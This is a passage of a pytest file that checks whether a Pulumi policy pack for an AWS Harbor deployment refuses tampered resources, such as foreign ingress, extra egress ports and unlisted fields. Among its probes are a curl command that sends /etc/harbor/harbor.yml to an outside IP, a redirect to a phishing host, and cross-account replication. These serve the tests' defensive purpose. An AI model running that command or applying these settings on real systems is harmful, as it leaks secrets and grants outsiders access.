    ("dev", "harbor-vm-instance", "vpcSecurityGroupIds []", lambda p: p.update(vpcSecurityGroupIds=[])),
    ("dev", "harbor-vm-instance", "no iamInstanceProfile", lambda p: p.pop("iamInstanceProfile")),
    ("dev", "harbor-vm-instance", "keyName ''", lambda p: p.update(keyName="")),
    ("s3", "harbor-data-db", "no vpcSecurityGroupIds", lambda p: p.pop("vpcSecurityGroupIds")),
    ("s3", "harbor-data-redis", "no securityGroupIds", lambda p: p.pop("securityGroupIds")),
    ("ha", "harbor-lb-alb", "securityGroups []", lambda p: p.update(securityGroups=[])),
    ("ha", "harbor-lb-https", "no certificateArn", lambda p: p.pop("certificateArn")),
    ("ha", "harbor-lb-https", "no targetGroupArn", lambda p: p["defaultActions"][0].pop("targetGroupArn")),
    ("ha", "harbor-vm-1-instance", "no vpcSecurityGroupIds", lambda p: p.pop("vpcSecurityGroupIds")),
]


@pytest.mark.parametrize("label", ["dev", "s3", "ha"])
def test_references_absent_at_up_are_refused_before_the_step(stacks, aws, label):
    """A1: the VM's group replaced (a changed description forces it), the instance's vpcSecurityGroupIds made through
    `sg.id.apply(lambda _: None)` is unknown at the preview, where its dependency is the program's group, and absent at
    up, where no lookup ran: EC2 then puts the instance in the VPC's default group (all egress, ingress from its other
    members). The same for the other references the program always sets. Each is refused at up, before the step; the
    program's own resources (the HTTP listener without a certificate included) pass."""
    stack = in_aws(stacks, label, aws)
    if label == "dev":
        preview = replaced_at_preview(stack, ["harbor-vm-sg"])
        assert registration_of(preview, "harbor-vm-instance").inputs["vpcSecurityGroupIds"] == UNKNOWN
        with running_pack(dry_run=True, config=stack_config("dev")) as pack:
            assert mandatory_of(pack, preview, whole=True) == []  # the preview cannot tell: the step's Analyze must
    passed = []
    with running_pack(dry_run=False, env=aws[1], config=stack_config(label)) as pack:
        assert mandatory_of(pack, stack, whole=True) == []
        for _, name, what, change in (probe for probe in ABSENT_AT_UP if probe[0] == label):
            found = mandatory_of(pack, [changed(stack, name, change)])
            if AT_UP not in {policy for policy, _ in found} or not any("absent or empty" in m for _, m in found):
                passed.append((name, what, found))
    assert passed == []


# G1/G1b: only the VM's own group was compared with the settings; the instance's second group (the stores' client
# group, allowed in every mode) admitted whatever the per-group resource check lets through.
FOREIGN_NET = "198.51.100.0/24"  # in no stack's allowedCidrs or sshAllowedCidrs
CLIENT_GROUP_ID = "sg-0c1e17c1e17c1e17c"


def client_group_in_a_stack_without_stores(stack: list[EngineResource]) -> list[EngineResource]:
    """G1b: without externalServices, a harbor-data-client-sg under a HarborDataServices "harbor-data" component (which
    components-are-the-programs accepts in any mode), admitting a foreign /24 on 22 and 443; the instance joins it."""
    vm_sg = registration_of(stack, "harbor-vm-sg")
    props = {
        "vpcId": vm_sg.inputs.get("vpcId"),
        "ingress": [tcp(22, FOREIGN_NET), tcp(443, FOREIGN_NET)],
        "egress": [],
        "tags": {"Name": "harbor-data-client-sg", "harbor-cache:stack": "dev"},
    }
    group = made("aws:ec2/securityGroup:SecurityGroup", "harbor-data-client-sg", props, outputs={**props, "id": CLIENT_GROUP_ID})
    kind = "harbor-cache:index:HarborDataServices"
    component = EngineResource(kind, "harbor-data", engine_urn("dev", CACHE_URN, kind, "harbor-data"), {}, {}, CACHE_URN)
    group.urn, group.parent = engine_urn("dev", component.urn, group.type, group.name), component.urn
    instance = changed(stack, "harbor-vm-instance", lambda p: p["vpcSecurityGroupIds"].append(CLIENT_GROUP_ID))
    instance.property_dependencies["vpcSecurityGroupIds"] = [*instance.property_dependencies["vpcSecurityGroupIds"], group.urn]
    return [component, group, instance]


def client_group_admits(*rules: dict) -> Callable[[list[EngineResource]], list[EngineResource]]:
    return lambda s: [changed(s, "harbor-data-client-sg", lambda p: p.update(ingress=list(rules)))]


def standalone_client_ingress(stack: list[EngineResource]) -> list[EngineResource]:
    kind, group = "aws:vpc/securityGroupIngressRule:SecurityGroupIngressRule", "harbor-data-client-sg"
    return standalone_rule(
        stack, kind, group, "probe-client-rule", ipProtocol="tcp", fromPort=443, toPort=443, cidrIpv4=FOREIGN_NET
    )


REVIEW22D_PROBES = [
    Probe(
        "review22d",
        "the stores' client group admits a foreign /24 on 22 and 443 and a /16 on 9090",
        "s3",
        client_group_admits(tcp(22, FOREIGN_NET), tcp(443, FOREIGN_NET), tcp(9090, "203.0.0.0/16")),
        refused_by="vm-group-admits-exactly-the-settings",
    ),
    Probe(
        "review22d",
        "a stand-alone ingress rule on the stores' client group: 443 from a foreign /24",
        "s3",
        standalone_client_ingress,
        refused_by="vm-group-admits-exactly-the-settings",
    ),
    Probe(
        "review22d",
        "a one-VM stack's instance joins a new client group (no stores) that admits a foreign /24",
        "dev",
        client_group_in_a_stack_without_stores,
        refused_by="security-groups-are-the-programs",
    ),
    Probe(
        "review22d",
        "a one-VM stack's new client group that the instance joins is judged as one of the VM's groups",
        "dev",
        client_group_in_a_stack_without_stores,
        refused_by="vm-group-admits-exactly-the-settings",
    ),
]
PROBES += REVIEW22D_PROBES


def test_an_instance_joins_the_client_group_only_in_a_stack_with_stores(stacks, aws):
    """G1b at up: the client group of a stack without stores, tagged and named as the program tags its own, passes the
    instance's lookup only where the configuration makes the stores (externalServices, replicas > 1); with the
    configuration of a one-VM stack it is refused before the step. The program's stacks pass at preview."""
    from tests.standins.moto_stack import clients, tag_specification

    for label in ("dev", "s3", "ha"):
        with running_pack(dry_run=True, config=stack_config(label), disabled=WITHOUT_AWS_LOOKUPS) as pack:
            assert mandatory_of(pack, stacks[label], whole=True) == [], label
    stack = in_aws(stacks, "dev", aws)
    ec2 = clients(aws[0])("ec2")
    vpc = ec2.describe_vpcs()["Vpcs"][0]["VpcId"]
    tags = {"Name": "harbor-data-client-sg", "harbor-cache:stack": "dev"}
    made_by_the_pr = tag_specification("security-group", tags)
    group_id = ec2.create_security_group(
        GroupName="harbor-data-client-sg-1", Description="x", VpcId=vpc, TagSpecifications=made_by_the_pr
    )["GroupId"]
    instance = changed(stack, "harbor-vm-instance", lambda p: p["vpcSecurityGroupIds"].append(group_id))
    with running_pack(dry_run=False, env=aws[1], config=stack_config("dev")) as pack:
        found = mandatory_of(pack, [instance])
        assert [policy for policy, _ in found] == [AT_UP] and group_id in found[0][1]
    with running_pack(dry_run=False, env=aws[1], config=stack_config("s3")) as pack:
        assert mandatory_of(pack, [instance]) == []  # the same group where the settings make the stores


# G2: the VM's group's egress was judged on the stores' ports (5432, 6379) and for the world only: any other tcp port
# out to the VPC's private blocks passed (MySQL 3306, NFS/EFS 2049, MongoDB 27017, OpenSearch 9200, SQL Server 1433,
# Redshift 5439, a PostgreSQL on 5433). Its egress is now exact against components/aws/network_rules.py egress_rules.
OTHER_DATABASE_PORTS = (3306, 2049, 27017, 9200, 1433, 5439, 5433)


def vm_egress(*rules: dict) -> Callable[[list[EngineResource]], list[EngineResource]]:
    return lambda s: [changed(s, "harbor-vm-sg", lambda p: p["egress"].extend(rules))]


REVIEW22D_EGRESS_PROBES = [
    Probe("review22d", what, stack, build, refused_by="vm-group-admits-exactly-the-settings")
    for what, stack, build in (
        (
            "the VM's group lets every other database port out to the VPC's block (stores stack)",
            "s3",
            vm_egress(*(tcp(port, VPC_BLOCK) for port in OTHER_DATABASE_PORTS)),
        ),
        ("the one VM's group lets MySQL's 3306 out to 10.0.0.0/8", "dev", vm_egress(tcp(3306, "10.0.0.0/8"))),
        ("the nodes' group lets OpenSearch's 9200 out to the VPC's block", "ha", vm_egress(tcp(9200, VPC_BLOCK))),
        (
            "the VM's group lets 2049 (EFS) out to the database's group",
            "s3",
            lambda s: vm_egress({**tcp(2049), "securityGroups": [output_of(s, "harbor-data-db-sg")]})(s),
        ),
        (
            "the stores' client group lets MySQL's 3306 out to the VPC's block",
            "s3",
            client_egress(lambda s, egress: egress.append(tcp(3306, VPC_BLOCK))),
        ),
        (
            "a stand-alone egress rule on the VM's group: 27017 to the VPC's block",
            "dev",
            lambda s: standalone_rule(
                s,
                "aws:vpc/securityGroupEgressRule:SecurityGroupEgressRule",
                "harbor-vm-sg",
                "probe-vm-egress",
                ipProtocol="tcp",
                fromPort=27017,
                toPort=27017,
                cidrIpv4=VPC_BLOCK,
            ),
        ),
    )
]
PROBES += REVIEW22D_EGRESS_PROBES


# ---------------------------------------------------------------------------------------------
# Deny by default for fields (issue 22, after review 22c: EipAssociation.networkInterfaceId and Instance.ami were
# fields no check read): a field outside policy/fields.py FIELDS, set to anything but what the provider's Check fills
# (policy/provider_defaults.py), is refused by `only-the-programs-fields`, whatever the type's own check says.
FIELDS_POLICY = "only-the-programs-fields"


def set_field(resource_name: str, path: str, value, kind: str = "") -> Callable[[list[EngineResource]], list[EngineResource]]:
    """The program's resource with the field `path` (`a.b`, `a[].b`: every element) set to `value`, through a secret
    (the command's connection) as the engine marshals it."""

    def put(props, parts: list[str]):
        head, rest = parts[0], parts[1:]
        if SECRET in props:
            props = props["value"]
        if not rest:
            props[head] = value
        elif head.endswith("[]"):
            for item in props[head[:-2]]:
                put(item, rest)
        else:
            put(props.setdefault(head, {}), rest)

    return lambda stack: [changed(stack, resource_name, lambda p: put(p, path.split(".")), kind)]


FIELD_PROBES = [
    ("dev", set_field("harbor-vm-eip-association", "networkInterfaceId", "eni-0123456789abcdef0")),
    ("dev", set_field("harbor-vm-instance", "ipv6Addresses", ["2001:db8::10"])),
    ("dev", set_field("harbor-vm-instance", "secondaryPrivateIps", ["10.0.0.99"])),
    ("dev", set_field("harbor-vm-instance", "placementGroup", "someone-elses-group")),
    ("dev", set_field("harbor-vm-instance", "hostId", "h-0123456789abcdef0")),
    ("dev", set_field("harbor-vm-instance", "sourceDestCheck", False)),  # the default is true
    ("dev", set_field("harbor-vm-instance", "userDataReplaceOnChange", True)),
    ("dev", set_field("harbor-vm-instance", "metadataOptions.instanceMetadataTags", "enabled")),
    # An attacker's `__defaults` naming the field hides nothing (the pack accepts a default by its value only).
    (
        "dev",
        lambda stack: [
            changed(stack, "harbor-vm-instance", lambda p: p["rootBlockDevice"].update(throughput=1e3, __defaults=["throughput"]))
        ],
    ),
    ("dev", set_field("harbor-vm-sg", "revokeRulesOnDelete", True)),  # harmless, but no field of the program's
    ("dev", set_field("harbor-vm-sg", "ingress[].self", True)),
    ("dev", set_field("harbor-vm-sg", "name", "default")),  # not the provider's autoname
    ("dev", set_field("harbor-vm-role", "maxSessionDuration", 43200)),
    ("dev", set_field("harbor-vm-role", "name", "OrganizationAccountAccessRole")),
    ("dev", set_field("harbor-install-docker", "environment", {"REGISTRY_TOKEN": "x"})),
    ("dev", set_field("harbor-install-docker", "connection.proxy", {"host": "203.0.113.9", "user": "ubuntu"})),
    ("dev", set_field("harbor-install-docker", "connection.port", 2222)),  # the provider's default is 22
    ("dev", set_field("harbor-install-docker", "delete", "curl -d @/etc/harbor/harbor.yml https://203.0.113.9/")),
    # pulumi-command fills true (provider_defaults.py); false would hand the next run no previous output: not the
    # program's, refused.
    ("dev", set_field("harbor-install-docker", "addPreviousOutputInEnv", False)),
    ("ha", set_field("harbor-lb-https", "mutualAuthentication", {"mode": "passthrough"})),
    ("ha", set_field("harbor-lb-alb", "enableDeletionProtection", True)),
    ("ha", set_field("harbor-lb-http", "defaultActions[].redirect.host", "phish.example.net")),  # default "#{host}"
    ("s3", set_field("harbor-data-db", "replicateSourceDb", "arn:aws:rds:eu-central-1:210987654321:db:theirs")),
    ("s3", set_field("harbor-storage-bucket", "bucket", "acme-pulumi-state")),
    ("s3", set_field("harbor-data-events", "name", "ops-alerts")),
    ("dev", set_field("harbor-vm-host-key", "instance_ids", ["i-0123456789abcdef0"])),
]


@pytest.mark.parametrize("dry_run", [True, False], ids=["preview", "up"])
def test_every_unlisted_field_probe_is_refused(stacks, dry_run):
    """Each probe through Analyze at preview and at up: refused by the field rule, naming the field and the fix."""
    passed = []
    with running_pack(dry_run=dry_run, disabled=WITHOUT_AWS_LOOKUPS) as pack:
        for label, build in FIELD_PROBES:
            (probe,) = build(stacks[label])
            found = [d for d in pack.analyze(probe) if d.policy == FIELDS_POLICY and d.mandatory]
            if not found or "policy/fields.py FIELDS" not in found[0].message or probe.type not in found[0].message:
                passed.append(f"{label}: {probe.name} {sorted(d.policy for d in pack.analyze(probe))}")
    assert passed == []


def test_the_programs_checked_inputs_with_the_providers_defaults_pass(stacks):
    """What the engine hands Analyze is the provider's Check answer: the harness fills what the providers fill
    (tests/standins/policy_engine.py checked_inputs), and the field rule accepts exactly that."""
    instance = registration_of(stacks["dev"], "harbor-vm-instance").inputs
    assert instance["sourceDestCheck"] is True and instance["rootBlockDevice"]["__defaults"] == []
    assert "sourceDestCheck" in instance["__defaults"]
    command = registration_of(stacks["dev"], "harbor-install-docker").inputs
    assert command["connection"]["value"]["port"] == 22
    with running_pack(dry_run=False, disabled=WITHOUT_AWS_LOOKUPS) as pack:
        for label in ("dev", "ha", "s3"):
            assert [d for r in stacks[label] for d in pack.analyze(r) if d.policy == FIELDS_POLICY] == []


@pytest.mark.parametrize(
    "field, value",
    [
        ("lifecycleRules", [{"enabled": True, "expirations": [{"days": 1}], "id": "gone"}]),
        (
            "replicationConfiguration",
            {
                "role": "arn:aws:iam::123456789012:role/existing-s3-replication",
                "rules": [{"status": "Enabled", "destination": {"bucket": "arn:aws:s3:::theirs", "account": "210987654321"}}],
            },
        ),
        (
            "serverSideEncryptionConfiguration",
            {
                "rule": {
                    "applyServerSideEncryptionByDefault": {
                        "sseAlgorithm": "aws:kms",
                        "kmsMasterKeyId": "arn:aws:kms:eu-central-1:210987654321:key/theirs",
                    }
                }
            },
        ),
    ],
)
def test_the_registry_buckets_inline_settings_are_refused(stacks, field, value):
    """Review 22d B1 (the probe of branch review22d, flipped): pulumi-aws 7.51's aws.s3.Bucket still takes the deprecated
    inline lifecycle, replication and encryption settings, which s3_bucket does not read (an expiration after a day
    deletes every blob, replication copies every object to another account). The field allow-list refuses them."""
    probe = changed(stacks["s3"], "harbor-storage-bucket", lambda p: p.update({field: value}))
    with running_pack(dry_run=True, config=stack_config("s3")) as pack:
        assert FIELDS_POLICY in mandatory_policies(pack, [probe])
